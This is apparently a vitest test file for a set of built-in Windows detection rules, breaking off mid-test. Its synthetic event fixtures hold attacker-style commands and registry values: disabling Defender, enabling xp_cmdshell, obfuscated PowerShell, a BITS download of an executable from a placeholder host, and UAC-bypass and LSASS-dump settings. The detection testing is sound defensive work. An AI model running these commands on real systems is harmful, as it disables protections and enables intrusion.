// The built-in Windows rules (rules-builtin/): each family fires on the events it is written for, with its tactic and
// level, and the corpus's benign captures give none of them at high or critical.
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { analyzeEvents, analyzePaths } from '../analysis/analyze.js';
import { attackLookup } from '../../core/attack/lookup.js';
import { builtinHits, builtinRules, windowsEvent, type Ev } from './builtin.fixture.js';
import { loadSigmaRules } from './index.js';

const builtin = builtinRules();
const corpora = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', '..', '..', 'shared', 'corpora');

const win = windowsEvent;
const hits = builtinHits;

const mssql = (t: number, text: string, eventId = 33205): Ev => win(t, 'Application', 'MSSQL$PROD', eventId, { Data: { '#text': text } });

describe('built-in Windows rules', () => {
  it('load without problems', () => {
    expect(builtin.skipped).toEqual([]);
    expect(builtin.inapplicable).toEqual([]);
    expect(builtin.stats.loaded).toBeGreaterThan(180);
  });

  it('MSSQL audit: dropped audit specifications, role members, failed logins and their burst', () => {
    const failed = Array.from({ length: 12 }, (_, i) => mssql(i, `action_id:LGIF\nclass_type:LX\nstatement:Login failed for user 'u${i}'. Reason: Could not find a login matching the name provided.\n`));
    const h = hits([
      mssql(100, 'action_id:DR\nclass_type:DA\nstatement:DROP DATABASE AUDIT SPECIFICATION [spec]\n'),
      mssql(101, 'action_id:APRL\nclass_type:SG\nstatement:ALTER SERVER ROLE [sysadmin] ADD MEMBER [x]\n'),
      mssql(102, 'xp_cmdshell', 15457),
      ...failed,
    ]);
    expect(h.get('MSSQL Audit Or Audit Specification Altered Or Dropped')).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(h.get('MSSQL Member Added To A Server Or Database Role')?.tactics).toContain('persistence');
    expect(h.get('MSSQL Code Execution Option Changed')?.level).toBe('high');
    expect(h.get('MSSQL Login Failed')?.tactics).toEqual(['credential-access']);
    expect(h.get('Burst Of MSSQL Login Failures')?.level).toBe('high');
    expect(h.has('MSSQL Login Attempt With The Built-in sa Account Failed')).toBe(false);
  });

  it('OpenSSH, BITS, proxy changes and user rights', () => {
    const ssh = (t: number, payload: string): Ev => win(t, 'OpenSSH/Operational', 'OpenSSH', 4, { process: 'sshd', payload });
    const h = hits([
      ...Array.from({ length: 6 }, (_, i) => ssh(i, `Failed password for admin from 10.0.0.9 port ${5000 + i} ssh2`)),
      win(20, 'Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 3, { jobTitle: 'x', jobOwner: 'CORP\\bob', processPath: 'C:\\Windows\\System32\\bitsadmin.exe' }),
      win(21, 'Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 59, { url: 'https://files.example.net/a.bin' }),
      win(22, 'Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 59, { url: 'http://au.download.windowsupdate.com/x.cab' }, 'SRV02'),
      win(23, 'Microsoft-Windows-WinINet-Config/ProxyConfigChanged', 'Microsoft-Windows-WinINet-Config', 5600, { pwszProxy: 'http://proxy.example.net:8080', pwszAutoConfigUrl: '' }),
      win(24, 'Security', 'Microsoft-Windows-Security-Auditing', 4704, { SubjectUserName: 'admin', TargetSid: 'S-1-5-21-1-2-3-1158', PrivilegeList: 'SeDebugPrivilege' }),
      win(25, 'Security', 'Microsoft-Windows-Security-Auditing', 4717, { SubjectUserName: 'admin', TargetSid: 'S-1-5-21-1-2-3-1158', AccessGranted: 'SeRemoteInteractiveLogonRight' }),
    ]);
    expect(h.get('Burst Of OpenSSH Authentication Failures')).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(h.get('BITS Job Created By A Command Line Tool Or Script Host')?.tactics).toEqual(['persistence', 'stealth']);
    expect(h.get('BITS Transfer From A Non-Microsoft Address')).toBeDefined();
    expect(h.get('WinINet Proxy Configuration Changed')?.tactics).toEqual(['command-and-control']);
    expect(h.get('Sensitive User Right Assigned To An Account')?.level).toBe('medium');
    expect(h.get('Logon Right Granted Or Removed')?.tactics).toContain('privilege-escalation');
    // The Windows Update transfer is not one of them: one BITS transfer hit, on SRV01.
    const a = analyzeEvents([win(22, 'Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 59, { url: 'http://au.download.windowsupdate.com/x.cab' })], { sigma: builtin });
    expect(a.detections?.count ?? 0).toBe(0);
  });

  it('directory enumeration: 25 distinct objects read by one user in a minute is a burst, by a computer account none', () => {
    const read = (t: number, user: string, i: number): Ev =>
      win(t, 'Security', 'Microsoft-Windows-Security-Auditing', 4662, { SubjectUserName: user, ObjectServer: 'DS', ObjectName: `%{0000000${i}-0000-0000-0000-000000000000}`, AccessList: '%%7688\r\n', AccessMask: '0x100' });
    const h = hits(Array.from({ length: 30 }, (_, i) => read(i, 'alice', i)));
    expect(h.get('Burst Of Directory Object Reads By One Account')?.tactics).toEqual(['discovery']);
    const machine = hits(Array.from({ length: 30 }, (_, i) => read(i, 'DC01$', i)));
    expect(machine.size).toBe(0);
  });

  const SEC = ['Security', 'Microsoft-Windows-Security-Auditing'] as const;
  const SYSMON = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
  const proc = (t: number, image: string, commandLine: string, extra: JsonRecord = {}, host = 'SRV01'): Ev =>
    win(t, ...SEC, 4688, { SubjectUserName: 'alice', NewProcessName: image, CommandLine: commandLine, ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', ...extra }, host);
  const sysmon1 = (t: number, image: string, commandLine: string, extra: JsonRecord = {}): Ev =>
    win(t, ...SYSMON, 1, { Image: image, CommandLine: commandLine, User: 'CORP\\alice', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ...extra });
  const sec = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SEC, eventId, data);
  /** Each event alone: the titles of its built-in hits. */
  const titlesOf = (e: Ev): string[] => [...hits([e]).keys()];

  it('process creation: remote-execution output, SQL clients, service ACLs, WSL, diskshadow, Defender, single-user SQL Server, setspn', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const h = hits([
      sysmon1(1, `${S32}cmd.exe`, `cmd.exe /Q /c C:\\Windows\\TEMP\\run.bat`, { ParentCommandLine: 'cmd.exe /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\run.bat' }),
      proc(2, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -S .\\PROD'),
      proc(3, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -Q "EXEC sp_configure \'xp_cmdshell\', 1"'),
      proc(4, `${S32}sc.exe`, 'sc sdset svc D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)'),
      proc(5, `${S32}reg.exe`, 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\svc\\Security" /v Security /t REG_BINARY /d 00'),
      proc(6, `${S32}Dism.exe`, 'Dism.exe /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all'),
      proc(7, `${S32}diskshadow.exe`, 'diskshadow.exe /s script.txt'),
      proc(8, `${S32}Taskmgr.exe`, 'taskmgr.exe /4'),
      proc(9, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -command "Set-MpPreference -DisableRealtimeMonitoring $true"'),
      proc(10, `${S32}net.exe`, 'net start MSSQL$PROD /m'),
      proc(11, `${S32}setspn.exe`, 'setspn -a MSSQLSvc/db01.corp.example:1433 CORP\\svc-sql'),
      proc(12, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0'),
    ]);
    expect(h.get('Command Output Redirected To A Local Administrative Share')).toEqual({ level: 'high', tactics: ['execution', 'lateral-movement'] });
    expect(h.get('SQL Server Command Line Client Run')?.level).toBe('low');
    expect(h.get('SQL Command Line Client Enables Or Runs Code Execution Features')?.level).toBe('high');
    expect(h.get('Service Security Descriptor Changed From The Command Line')?.tactics).toContain('persistence');
    expect(h.get('Windows Subsystem For Linux Installed Or Used')).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(h.get('Diskshadow Run')).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(h.get('Task Manager Started')?.level).toBe('informational');
    expect(h.get('Defender Preferences Weakened From The Command Line')).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(h.get('SQL Server Started In Single-User Mode From The Command Line')?.level).toBe('medium');
    expect(h.get('Service Principal Name Added To An Account From The Command Line')?.tactics).toContain('persistence');
    expect(h.get('OpenSSH Server Installed Or Started From The Command Line')?.tactics).toContain('lateral-movement');
    // Near misses: output to another host's share, a plain query, a service query, Defender signature settings, a normal SQL start, an SPN query.
    expect(titlesOf(proc(20, `${S32}cmd.exe`, 'cmd.exe /c dir > \\\\fs01\\logs\\out.txt'))).toEqual([]);
    expect(titlesOf(proc(21, `${S32}sc.exe`, 'sc query svc'))).not.toContain('Service Security Descriptor Changed From The Command Line');
    expect(titlesOf(proc(22, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe Set-MpPreference -SignatureUpdateInterval 4'))).toEqual([]);
    expect(titlesOf(proc(23, `${S32}net.exe`, 'net start MSSQL$PROD'))).not.toContain('SQL Server Started In Single-User Mode From The Command Line');
    expect(titlesOf(proc(24, `${S32}setspn.exe`, 'setspn -Q */*'))).not.toContain('Service Principal Name Added To An Account From The Command Line');
    expect(titlesOf(proc(25, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -Q "SELECT 1"'))).toEqual(['SQL Server Command Line Client Run']);
  });

  it('discovery commands: informational each, five different ones on a host in ten minutes are a burst', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const cmds: [string, string][] = [
      [`${S32}auditpol.exe`, 'auditpol /get /category:*'],
      [`${S32}netsh.exe`, 'netsh advfirewall show allprofiles'],
      [`${S32}schtasks.exe`, 'schtasks /query /xml'],
      [`${S32}net.exe`, 'net share'],
      [`${S32}whoami.exe`, 'whoami /all'],
    ];
    const h = hits(cmds.map(([image, cl], i) => proc(i * 60, image, cl)));
    expect(h.get('Built-in Discovery Command')).toEqual({ level: 'informational', tactics: ['discovery'] });
    expect(h.get('Burst Of Built-in Discovery Commands On One Host')).toEqual({ level: 'medium', tactics: ['discovery'] });
    const four = hits(cmds.slice(0, 4).map(([image, cl], i) => proc(i * 60, image, cl)));
    expect(four.has('Burst Of Built-in Discovery Commands On One Host')).toBe(false);
    // Commands run as SYSTEM count too (attackers run them after escalating); other programs and a service query with no discovery verb do not.
    expect(hits(cmds.map(([image, cl], i) => proc(i * 60, image, cl, { SubjectUserName: 'SRV01$' }))).has('Burst Of Built-in Discovery Commands On One Host')).toBe(true);
    expect(titlesOf(proc(400, `${S32}notepad.exe`, 'notepad.exe C:\\notes.txt'))).toEqual([]);
    expect(titlesOf(proc(401, `${S32}schtasks.exe`, 'schtasks /run /tn x'))).toEqual([]);
    // net.exe starts net1.exe with the same verb: that is one command, not two.
    const netCommands: readonly (readonly [string, string])[] = [['user', 'net user'], ['group', 'net group "Domain Admins" /domain']];
    const viaNet = netCommands.flatMap(([verb, cl], i) => [
      proc(500 + i * 60, `${S32}net.exe`, cl),
      proc(501 + i * 60, `${S32}net1.exe`, `C:\\Windows\\system32\\net1 ${verb}`, { ParentProcessName: `${S32}net.exe` }),
    ]);
    const three = [...viaNet, proc(700, `${S32}whoami.exe`, 'whoami /all')];
    expect(hits(three).has('Burst Of Built-in Discovery Commands On One Host')).toBe(false);
    expect(hits([...three, proc(760, `${S32}ipconfig.exe`, 'ipconfig /all'), proc(820, `${S32}net1.exe`, 'net1 localgroup administrators')]).has('Burst Of Built-in Discovery Commands On One Host')).toBe(true);
  });

  it('Security log: runas and shell logons, loopback NTLM, valid password refused, accessibility programs, WinRM, directory, Exchange groups, shares, hard links', () => {
    const h = hits([
      sec(1, 4624, { TargetUserName: 'bob', LogonType: 2, LogonProcessName: 'seclogo', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }),
      sec(2, 4648, { SubjectUserName: 'alice', TargetUserName: 'bob', TargetServerName: 'localhost', ProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }),
      sec(3, 4624, { TargetUserSid: 'S-1-5-7', TargetUserName: 'ANONYMOUS LOGON', LogonType: 3, AuthenticationPackageName: 'NTLM', IpAddress: '127.0.0.1' }),
      sec(4, 4625, { TargetUserName: 'bob', Status: '0xc000006e', SubStatus: '0xc000006f', LogonType: 10 }),
      sec(5, 4656, { SubjectUserName: 'alice', ObjectName: 'C:\\Windows\\System32\\sethc.exe', AccessList: '%%1537\r\n\t%%4417\r\n', ProcessName: 'C:\\Windows\\System32\\cmd.exe' }),
      sec(6, 4656, { SubjectUserName: 'alice', ObjectServer: 'WS-Management Listener', ObjectName: 'Unknown' }),
      sec(7, 5136, { SubjectUserName: 'alice', ObjectDN: 'CN=User-Force-Change-Password,CN=Extended-Rights,CN=Configuration,DC=corp,DC=example', AttributeLDAPDisplayName: 'localizationDisplayId' }),
      sec(8, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: 'DC01' }),
      sec(9, 4756, { SubjectUserName: 'alice', TargetUserName: 'Exchange Windows Permissions', MemberName: 'CN=eve,DC=corp,DC=example' }),
      sec(10, 5143, { SubjectUserName: 'alice', ShareName: '\\\\*\\data', OldSD: 'O:BAG:DUD:(A;;0x1200a9;;;WD)', NewSD: 'O:BAG:DUD:(A;;FA;;;WD)' }),
      sec(11, 4664, { SubjectUserName: 'alice', FileName: 'C:\\Windows\\System32\\drivers\\etc\\hosts', LinkName: 'C:\\Users\\alice\\AppData\\Local\\Temp\\x' }),
    ]);
    expect(h.get('Logon Through The Secondary Logon Service (runas)')?.tactics).toContain('privilege-escalation');
    expect(h.get('Logon With Explicit Credentials Made By A Shell Or Script Host')?.level).toBe('medium');
    expect(h.get('Anonymous NTLM Logon From The Host Itself')?.tactics).toContain('privilege-escalation');
    expect(h.get('Logon Refused By An Account Restriction After A Valid Password')?.tactics).toContain('initial-access');
    expect(h.get('Write Access To An Accessibility Program Requested')?.tactics).toEqual(['persistence', 'privilege-escalation']);
    expect(h.get('WS-Management Listener Used By An Account')?.tactics).toContain('lateral-movement');
    expect(h.get('Directory Extended Right Or Schema Object Changed')?.level).toBe('medium');
    expect(h.get('Computer Account Renamed Without A Trailing $')?.level).toBe('high');
    expect(h.get('Member Added To An Exchange Group With Directory Write Rights')?.tactics).toContain('credential-access');
    expect(h.get('Share Permissions Changed')?.level).toBe('low');
    expect(h.get('Hard Link To A System File Created By A User')?.level).toBe('medium');
    // Near misses.
    expect(titlesOf(sec(20, 4624, { TargetUserName: 'bob', LogonType: 2, LogonProcessName: 'User32', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }))).toEqual([]);
    expect(titlesOf(sec(21, 4624, { TargetUserSid: 'S-1-5-7', TargetUserName: 'ANONYMOUS LOGON', LogonType: 3, AuthenticationPackageName: 'NTLM', IpAddress: '10.0.0.5' }))).not.toContain('Anonymous NTLM Logon From The Host Itself');
    expect(titlesOf(sec(22, 4625, { TargetUserName: 'bob', Status: '0xc000006d', SubStatus: '0xc000006a', LogonType: 3 }))).not.toContain('Logon Refused By An Account Restriction After A Valid Password');
    expect(titlesOf(sec(23, 4656, { SubjectUserName: 'alice', ObjectName: 'C:\\Windows\\System32\\sethc.exe', AccessList: '%%4416\r\n%%1541\r\n', ProcessName: 'C:\\Windows\\explorer.exe' }))).toEqual([]);
    expect(titlesOf(sec(24, 4656, { SubjectUserName: 'SRV01$', ObjectServer: 'WS-Management Listener' }))).toEqual([]);
    expect(titlesOf(sec(25, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: '-' }))).not.toContain('Computer Account Renamed Without A Trailing $');
    expect(titlesOf(sec(26, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: 'PC02$' }))).not.toContain('Computer Account Renamed Without A Trailing $');
    expect(titlesOf(sec(27, 4756, { SubjectUserName: 'alice', TargetUserName: 'Marketing', MemberName: 'CN=eve' }))).not.toContain('Member Added To An Exchange Group With Directory Write Rights');
    expect(titlesOf(sec(28, 5143, { SubjectUserName: 'alice', ShareName: '\\\\*\\data', OldSD: 'O:BAG:DUD:(A;;FA;;;WD)', NewSD: 'O:BAG:DUD:(A;;FA;;;WD)' }))).not.toContain('Share Permissions Changed');
    expect(titlesOf(sec(29, 4664, { SubjectUserName: 'alice', FileName: 'D:\\data\\a.txt', LinkName: 'D:\\data\\b.txt' }))).toEqual(['Hard Link Created']);
  });

  it('Sysmon, PowerShell, DNS server audit and Setup: accessibility files, one-shot services, drivers, RDP policy, BITS, encoded engines, DNS logging and plugins, WSL', () => {
    const reg = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    const engine = (t: number, hostApplication: string): Ev =>
      win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: { '#text': ['Available', 'None', `\tNewEngineState=Available\r\n\tHostApplication=${hostApplication}\r\n`] } });
    const h = hits([
      win(1, ...SYSMON, 11, { Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'C:\\Windows\\System32\\sethc.exe' }),
      reg(2, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\XYZ\\ImagePath', Details: '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output' }),
      reg(3, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\drv\\ImagePath', Details: '\\??\\C:\\Users\\alice\\Desktop\\drv.sys' }),
      reg(4, 12, { EventType: 'CreateKey', Image: 'C:\\Windows\\system32\\reg.exe', TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' }),
      ps(5, 'Start-BitsTransfer -Source https://files.example.net/a.exe -Destination C:\\Users\\Public\\a.exe'),
      ps(6, 'Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0'),
      engine(7, "powershell.exe -nop -w 1 -C & ( $PshOMe[4]+$PshoME[30]+'X')((91,78,101) -join '')"),
      win(8, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'UseSystemEventLog', Scope: '.', NewValue: '0' }),
      win(9, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'ServerLevelPluginDll', Scope: '.', NewValue: '\\\\10.0.0.9\\s\\p.dll' }),
      win(10, 'Setup', 'Microsoft-Windows-Servicing', 9, { UpdateName: 'Microsoft-Windows-Subsystem-Linux', PackageIdentifier: 'Microsoft-Windows-Lxss-Optional' }),
    ]);
    expect(h.get('Accessibility Program Replaced (Sysmon 11)')?.level).toBe('high');
    expect(h.get('Service Created With A Shell Command As Its Program (Sysmon 13)')).toEqual({ level: 'high', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    expect(h.get('Kernel Driver Service Pointing Outside The Windows Folder (Sysmon 13)')?.level).toBe('medium');
    expect(h.get('Terminal Services Policy Changed By A Command Line Tool (Sysmon 12/13)')?.tactics).toEqual(['lateral-movement', 'collection']);
    expect(h.get('PowerShell BITS Transfer (script block 4104)')?.tactics).toEqual(['persistence', 'stealth']);
    expect(h.get('PowerShell Installs The OpenSSH Server (script block 4104)')?.tactics).toContain('lateral-movement');
    expect(h.get('PowerShell Engine Started With An Encoded Or Obfuscated Command')?.tactics).toContain('stealth');
    expect(h.get('DNS Server Logging Setting Changed')).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(h.get('DNS Server Plugin DLL Set')?.level).toBe('high');
    expect(h.get('Windows Subsystem For Linux Feature Installed (Setup)')?.tactics).toEqual(['stealth']);
    // Near misses: servicing writes a system file, a service with a plain program, a driver in System32, a value read, a plain engine start, other DNS settings and features.
    expect(titlesOf(win(20, ...SYSMON, 11, { Image: 'C:\\Windows\\servicing\\TrustedInstaller.exe', TargetFilename: 'C:\\Windows\\System32\\sethc.exe' }))).toEqual([]);
    expect(titlesOf(reg(21, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\svc\\ImagePath', Details: 'C:\\Program Files\\Vendor\\svc.exe' }))).toEqual([]);
    expect(titlesOf(reg(22, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\drv\\ImagePath', Details: '\\SystemRoot\\System32\\drivers\\drv.sys' }))).toEqual([]);
    expect(titlesOf(reg(23, 12, { EventType: 'CreateKey', Image: 'C:\\Windows\\System32\\svchost.exe', TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' }))).toEqual([]);
    expect(titlesOf(engine(24, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'))).toEqual([]);
    expect(titlesOf(win(25, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'Forwarders', Scope: '.', NewValue: '10.0.0.1' }))).toEqual([]);
    expect(titlesOf(win(26, 'Setup', 'Microsoft-Windows-Servicing', 9, { UpdateName: 'Printing-XPSServices-Features' }))).toEqual([]);
  });

  it('lateral movement and tunnels: RID 500 network logons, bare service programs, WMI and WinRM children, RDP client files, pipes and shares, RDP over loopback', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const h = hits([
      sec(1, 4624, { TargetUserSid: 'S-1-5-21-1-2-3-500', TargetUserName: 'Administrator', LogonType: 3, IpAddress: '10.0.2.17' }),
      win(2, 'System', 'Service Control Manager', 7045, { ServiceName: 'x', ImagePath: 'cmd.exe', StartType: 'auto start' }),
      sysmon1(3, `${S32}calc.exe`, 'calc.exe', { ParentImage: `${S32}wbem\\WmiPrvSE.exe` }),
      sysmon1(4, `${S32}whoami.exe`, 'whoami', { ParentImage: `${S32}wsmprovhost.exe` }),
      win(5, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'false', SourceIp: '10.0.0.9', DestinationPort: 5985 }),
      win(6, ...SYSMON, 11, { Image: `${S32}mstsc.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe' }),
      win(7, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Parameters\\NullSessionPipes', Details: 'x' }),
      sec(8, 4624, { TargetUserName: 'bob', LogonType: 10, IpAddress: '127.0.0.1' }),
      win(9, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\plink.exe', Initiated: 'true', SourceIp: '127.0.0.1', DestinationIp: '127.0.0.1', DestinationPort: 3389 }),
    ]);
    expect(h.get('Network Logon With A Built-in Administrator Account')?.tactics).toEqual(['lateral-movement']);
    expect(h.get('Service Installed With A Program Name Without A Folder')?.level).toBe('high');
    expect(h.get('Program Started By The WMI Provider Host')?.tactics).toEqual(['execution', 'lateral-movement']);
    expect(h.get('Program Started By A WinRM Or PowerShell Remoting Host')?.tactics).toContain('lateral-movement');
    expect(h.get('Inbound WinRM Connection (Sysmon 3)')?.level).toBe('low');
    expect(h.get('File Written By The Remote Desktop Client (Sysmon 11)')?.tactics).toContain('lateral-movement');
    expect(h.get('Named Pipe Opened To Anonymous Access (NullSessionPipes)')?.level).toBe('high');
    expect(h.get('Remote Desktop Logon From The Loopback Address')?.tactics).toContain('command-and-control');
    expect(h.get('Remote Desktop Connection Over The Loopback Address (Sysmon 3)')?.tactics).toEqual(['command-and-control']);
    // Near misses: RID 500 from the host itself, a service with a full path, WmiPrvSE's own crash reporter, an outbound WinRM connection, RDP from the network.
    expect(titlesOf(sec(20, 4624, { TargetUserSid: 'S-1-5-21-1-2-3-500', TargetUserName: 'Administrator', LogonType: 3, IpAddress: '::1' }))).toEqual([]);
    expect(titlesOf(win(21, 'System', 'Service Control Manager', 7045, { ServiceName: 'x', ImagePath: '"C:\\Program Files\\Vendor\\svc.exe" -k', StartType: 'auto start' }))).toEqual(['New Service Installed']);
    expect(titlesOf(sysmon1(22, `${S32}WerFault.exe`, 'WerFault.exe -u', { ParentImage: `${S32}wbem\\WmiPrvSE.exe` }))).toEqual([]);
    expect(titlesOf(win(23, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'true', SourceIp: '10.0.0.5', DestinationPort: 5985 }))).toEqual([]);
    expect(titlesOf(sec(24, 4624, { TargetUserName: 'bob', LogonType: 10, IpAddress: '10.0.0.9' }))).not.toContain('Remote Desktop Logon From The Loopback Address');
  });

  it('persistence, privilege escalation, evasion and credential access: registry locations, UAC bypasses, pipe tricks, log service, unmanaged PowerShell, credential stores', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const set = (t: number, target: string, details = 'C:\\Users\\bob\\a.dll', image = `${S32}reg.exe`): Ev =>
      win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: target, Details: details });
    const h = hits([
      set(1, 'HKU\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{0000-1111}\\InprocServer32\\(Default)'),
      set(2, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Startup', 'C:\\Users\\Public\\s'),
      set(3, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{x}\\DatabasePath', 'C:\\x.sdb'),
      set(4, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\eve', 'DWORD (0x00000000)'),
      set(5, 'HKU\\S-1-5-21-1-2-3-1001_Classes\\ms-settings\\shell\\open\\command\\(Default)', 'cmd.exe'),
      sysmon1(6, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}fodhelper.exe` }),
      win(7, ...SYSMON, 17, { Image: 'C:\\Users\\bob\\ps.exe', PipeName: '\\abc\\pipe\\spoolss' }),
      win(8, 'System', 'Service Control Manager', 7036, { param1: 'Windows Event Log', param2: 'stopped' }),
      sec(9, 4720, { SubjectUserName: 'alice', TargetUserName: 'WKS99$' }),
      win(10, ...SYSMON, 7, { Image: 'C:\\Users\\bob\\implant.exe', ImageLoaded: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation\\System.Management.Automation.ni.dll' }),
      sec(11, 4663, { SubjectUserName: 'bob', ObjectName: 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', ProcessName: 'C:\\Users\\bob\\dump.exe' }),
      set(12, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe\\ReportingMode', 'DWORD (0x00000002)'),
      set(13, 'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel', 'DWORD (0x00000002)'),
      sec(14, 4624, { TargetUserName: 'bob', LogonType: 2, ProcessName: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' }),
      set(15, 'HKU\\S-1-5-21-1-2-3-1001\\Environment\\__PSLockdownPolicy', 'DWORD (0x00000008)'),
      set(16, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA', 'DWORD (0x00000000)'),
    ]);
    expect(h.get('COM Server Registered In The User Hive')?.tactics).toContain('persistence');
    expect(h.get('Startup Folder Location Changed')?.level).toBe('high');
    expect(h.get('Application Shim Database Installed')?.tactics).toContain('persistence');
    expect(h.get('Account Hidden From The Logon Screen')?.level).toBe('high');
    expect(h.get('UAC Bypass Through A Hijacked Auto-Elevating Handler')?.tactics).toContain('privilege-escalation');
    expect(h.get('Program Started By An Auto-Elevating Windows Program')?.tactics).toContain('privilege-escalation');
    expect(h.get('Named Pipe With An Embedded Pipe Path (Token Impersonation)')?.tactics).toContain('privilege-escalation');
    expect(h.get('Windows Event Log Service Stopped Or Crashed')).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(h.get('User Account Created With A Computer-Like Name')?.level).toBe('high');
    expect(h.get('PowerShell Engine Loaded By A Non-PowerShell Process (Sysmon 7)')?.tactics).toContain('execution');
    expect(h.get('Browser Credential Store Read By Another Program')?.tactics).toEqual(['credential-access']);
    expect(h.get('Silent Process Exit Monitoring Set For LSASS')?.level).toBe('high');
    expect(h.get('NTLM Security Settings Weakened In The Registry')?.tactics).toContain('credential-access');
    expect(h.get('Interactive Logon Requested By An Unusual Program')?.tactics).toContain('credential-access');
    expect(h.get('PowerShell Language Mode Variable Written')?.level).toBe('high');
    expect(h.get('User Account Control Disabled In The Registry')?.tactics).toContain('privilege-escalation');
    // Near misses: machine-hive COM, the default Startup folder, a normal pipe, another service stopping, a normal user name, the PowerShell host, the browser itself, UAC left on.
    expect(titlesOf(set(20, 'HKLM\\SOFTWARE\\Classes\\CLSID\\{0000-1111}\\InprocServer32\\(Default)', 'C:\\Windows\\System32\\x.dll', `${S32}msiexec.exe`))).toEqual([]);
